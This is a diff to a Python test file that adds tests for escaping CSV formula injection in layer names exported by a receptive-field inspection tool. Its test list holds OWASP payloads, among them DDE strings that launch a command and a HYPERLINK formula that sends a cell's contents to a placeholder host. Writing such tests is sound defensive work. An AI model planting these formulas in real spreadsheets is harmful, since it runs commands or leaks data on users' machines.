@@ -299,6 +299,36 @@ def test_csv_and_json_round_trip_hostile_names():
     assert document["name"] == "<x> { injected } digraph <y>"
 
 
+# OWASP's CSV injection examples (its page and its test payloads): each would run as a formula in
+# Excel, LibreOffice Calc or Google Sheets if a cell started with it
+FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            '=HYPERLINK("http://x?"&A1,"Error")', "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "-", "@"]
+
+
+def test_csv_formula_injection_names_start_with_a_single_quote(tmp_path):
+    """A layer or network name that a spreadsheet would run as a formula is written with OWASP's
+    single quote in front, through inspect -o x.csv; numbers, and the receptive field's negative
+    starts ('-3x-3'), stay as they are."""
+    path = tmp_path / "formulas.yaml"
+    path.write_text(hostile_yaml(FORMULAS, last="kernel: 3, padding: 1"))
+    result = CliRunner().invoke(main, ["inspect", str(path), "--rf", "-o", str(tmp_path / "out.csv")])
+    assert result.exit_code == 0, result.output
+    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as written:
+        rows = list(csv.reader(written))
+    assert [row[0] for row in rows[1:-1]] == ["'" + name for name in FORMULAS]
+    starts = [row[rows[0].index("rf_start")] for row in rows[1:-1]]
+    assert starts[-1] == "-1x-1"  # the 3x3 conv with padding 1: a start of -1 per axis, kept as a number
+    for row in rows:
+        assert not any(cell[:1] in ("=", "+", "@", "\t", "\r", "\n", "\0") for cell in row if cell)
+        assert not any(cell.startswith("-") and not re.fullmatch(r"-\d+(x-?\d+)*", cell) for cell in row)
+
+
+def test_csv_cell_escapes_formulas_only():
+    assert escape.csv_cell("=1+1") == "'=1+1" and escape.csv_cell("@x") == "'@x"
+    assert escape.csv_cell("-3x-3") == "-3x-3" and escape.csv_cell("-1.5") == "-1.5" and escape.csv_cell(-7) == -7
+    assert escape.csv_cell("-3x-3+cmd") == "'-3x-3+cmd"
+    assert escape.csv_cell("a=1") == "a=1" and escape.csv_cell("'=1") == "'=1" and escape.csv_cell("") == ""
+
 def test_explain_and_solve_show_hostile_names_on_one_line():
     spec = hostile_spec(last="kernel: 2, stride: 2")  # 9 - 2 is not a multiple of 2: the last layer is invalid
     text = board.render_text(board.explain(spec))
